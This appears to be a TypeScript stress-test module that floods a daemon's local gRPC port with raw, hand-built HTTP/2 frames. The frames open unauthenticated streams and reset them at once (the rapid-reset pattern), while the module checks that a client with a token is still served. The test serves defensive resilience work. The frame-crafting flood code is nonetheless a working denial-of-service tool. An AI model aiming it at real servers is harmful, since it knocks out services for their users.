import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type RuntimeClient, runtimeClient } from '../../grpc/runtime-client.ts';
import type { Attack, Scale, Victim } from '../attack.ts';

/** Calls without a token cost little, however many connections they come on and end with. */
export const attack: Attack = {
  summary:
    'gRPC connections begin calls without a token and reset them, and connect again when cut',
  memory_mib: { short: 100, long: 150 },
  livez_ms: 1000,
  async run(victim, scale) {
    const { addresses } = await victim.life.ask((client) => client.call('status'));
    const port = Number(addresses.grpc?.split(':').at(-1));
    const end = performance.now() + FLOOD_MS[scale];
    const flood = async (call: Call) => {
      while (performance.now() < end) await callAndReset(port, call, end).catch(() => {});
    };
    const calls = Array.from({ length: WIRES[scale] }, (_, at) => CALLS[at % CALLS.length] as Call);
    await Promise.all([...calls.map(flood), askMeanwhile(victim, addresses.grpc ?? '', end)]);
  },
};

const FLOOD_MS: Record<Scale, number> = { short: 2000, long: 15_000 };
const WIRES: Record<Scale, number> = { short: 20, long: 60 };
/** For a client with the token to be answered, on its own and on a new connection. */
const SERVED_MS = 20_000;

type Call = (id: number) => Buffer[];

const RUNTIME = '/svc.runtime.v1.Runtime/List';
const HEALTH = '/grpc.health.v1.Health/Watch';
const CALLS: readonly Call[] = [
  (id) => [headers(id, RUNTIME), reset(id)],
  (id) => [headers(id, HEALTH), reset(id)],
  // The daemon answers these: with a status, or with a reset, since a window grows by nothing.
  (id) => [headers(id, RUNTIME, END_STREAM)],
  (id) => [headers(id, RUNTIME), frame(WINDOW_UPDATE, 0, id, Buffer.alloc(4))],
];

/** One connection, until it is closed or the time is over. */
async function callAndReset(port: number, call: Call, end: number): Promise<void> {
  const socket = connect(port, '127.0.0.1');
  const closed = once(socket, 'close').catch(() => {});
  socket.on('error', () => {});
  socket.resume();
  await once(socket, 'connect');
  socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0)]));
  const calls = Array.from({ length: TOGETHER }, (_, at) => call(1 + 2 * at)).flat();
  const bytes = Buffer.concat(calls);
  while (!socket.destroyed && performance.now() < end) {
    const sent = new Promise((resolve) => socket.write(bytes, resolve));
    await Promise.race([sent, closed]);
    moveIds(bytes, 2 * TOGETHER);
  }
  socket.destroy();
}

/** The same frames of the next streams. */
function moveIds(bytes: Buffer, by: number): void {
  for (let at = 0; at < bytes.length; at += 9 + bytes.readUIntBE(at, 3))
    bytes.writeUInt32BE(bytes.readUInt32BE(at + 5) + by, at + 5);
}

const TOGETHER = 500;

/** A client with the token keeps its connection, and other ones get in. */
async function askMeanwhile({ token }: Victim, address: string, end: number): Promise<void> {
  const known = runtimeClient(address, { token });
  try {
    await served(known);
    while (performance.now() < end) {
      const newcomer = runtimeClient(address, { token });
      await Promise.all([served(known), served(newcomer)]).finally(() => newcomer.close());
      await sleep(100);
    }
  } finally {
    known.close();
  }
}

async function served(client: RuntimeClient): Promise<void> {
  await client.ask('List', {}, { deadline: Date.now() + SERVED_MS });
}

const WINDOW_UPDATE = 8;
const [END_STREAM, END_HEADERS] = [1, 4];

function headers(id: number, path: string, flags = 0): Buffer {
  const text = (value: string) => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
  // Of the static table: POST, http, and the names of the authority, path and content type.
  const block = Buffer.concat([
    Buffer.from([0x83, 0x86, 0x01]),
    text('localhost'),
    Buffer.from([0x04]),
    text(path),
    Buffer.from([0x0f, 0x10]),
    text('application/grpc'),
  ]);
  return frame(1, END_HEADERS | flags, id, block);
}

function reset(id: number): Buffer {
  return frame(3, 0, id, Buffer.from([0, 0, 0, 8]));
}

function frame(type: number, flags: number, id: number, payload = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(id, 5);
  return Buffer.concat([head, payload]);
}
